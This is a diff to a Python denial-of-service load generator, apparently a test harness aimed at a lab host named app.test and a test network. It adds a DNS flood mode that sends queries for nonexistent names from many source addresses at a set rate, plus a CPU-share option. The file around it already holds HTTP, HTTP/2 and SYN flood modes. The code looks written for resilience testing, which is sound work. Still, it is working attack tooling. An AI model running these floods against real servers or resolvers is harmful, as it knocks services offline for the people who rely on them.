@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import argparse
 import ipaddress
+import itertools
 import json
 import os
 import select
@@ -19,11 +20,15 @@ import time
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 
+from question import question
+
 HOST = b"app.test"
 # How many connections are begun at a time, and how long the attacker rests then.
 OPENED_AT_ONCE = 100
 PAUSE_SECONDS = 0.005
 PIPELINED = 8
+# The piece of time of which a part is kept busy.
+SLICE_SECONDS = 0.01
 READ_BYTES = 64 * 1024
 # Where spoofed packets come from: a network of which the test says that it is there.
 NOBODY = "10.77.0.0"
@@ -47,6 +52,8 @@ class Attack:
     addresses: int
     connections: int
     a_second: float
+    share: float
+    zone: str
     done: dict[str, int] = field(default_factory=dict)
 
     def is_over(self) -> bool:
@@ -137,6 +144,7 @@ def flood(attack: Attack) -> None:
                         raise ConnectionResetError
                     came = answered.count(b"HTTP/1.1 ")
                     attack.count("answers", came)
+                    attack.count("refused", answered.count(b"HTTP/1.1 403 "))
                     ahead -= came
                 if ahead <= 0 and may:
                     connection.sendall(request * PIPELINED)
@@ -268,10 +276,37 @@ def segment(source: bytes, target: bytes, from_port: int, port: int, number: int
     return header + source + target + tcp
 
 
-def busy(attack: Attack) -> None:
-    """Attacks nobody: keeps its core as busy as an attacker does."""
+def dns(attack: Attack) -> None:
+    """Asks for names that are not there, and reads no answer."""
+    addresses = itertools.islice(sources(attack.addresses), attack.addresses)
+    asking = []
+    for address in addresses:
+        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        one.setblocking(False)
+        one.bind((address, 0))
+        one.connect(attack.address)
+        asking.append(one)
+    began, number = time.monotonic(), 0
     while not attack.is_over():
-        attack.count("rounds")
+        if number > (time.monotonic() - began) * attack.a_second:
+            time.sleep(0.001)
+            continue
+        number += 1
+        try:
+            one = asking[number % len(asking)]
+            one.send(question(number % 0x10000, f"n{number}.{attack.zone}"))
+            attack.count("queries")
+        except OSError:
+            attack.count("unsent")
+
+
+def busy(attack: Attack) -> None:
+    """Attacks nobody: keeps its core as busy as attackers did."""
+    while not attack.is_over():
+        ends = time.process_time() + attack.share * SLICE_SECONDS
+        while time.process_time() < ends:
+            attack.count("rounds")
+        time.sleep((1 - attack.share) * SLICE_SECONDS)
 
 
 UNENDING_HEAD = Trickle(b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\n", b"X-A: b\r\n")
@@ -292,6 +327,7 @@ KINDS: dict[str, Callable[[Attack], None]] = {
     "ping": lambda attack: abuse(attack, pings),
     "settings": lambda attack: abuse(attack, settings),
     "syn": syn,
+    "dns": dns,
 }
 
 
@@ -303,16 +339,18 @@ def main() -> None:
     arguments.add_argument("--addresses", type=int, default=1)
     arguments.add_argument("--connections", type=int, default=1000)
     arguments.add_argument("--a-second", type=float, default=5000)
+    arguments.add_argument("--share", type=float, default=1.0)
+    arguments.add_argument("--zone", default="")
     arguments.add_argument("--core", type=int)
     chosen = arguments.parse_args()
     if chosen.core is not None:
         os.sched_setaffinity(0, {chosen.core})
     host, port = chosen.address.rsplit(":", 1)
     ends = time.monotonic() + chosen.seconds
-    made = (chosen.addresses, chosen.connections, chosen.a_second)
+    made = (chosen.addresses, chosen.connections, chosen.a_second, chosen.share, chosen.zone)
     attack = Attack((host, int(port)), ends, *made)
     KINDS[chosen.kind](attack)
-    json.dump(attack.done, sys.stdout)
+    json.dump({"done": attack.done, "busy_seconds": time.process_time()}, sys.stdout)
 
 
 if __name__ == "__main__":
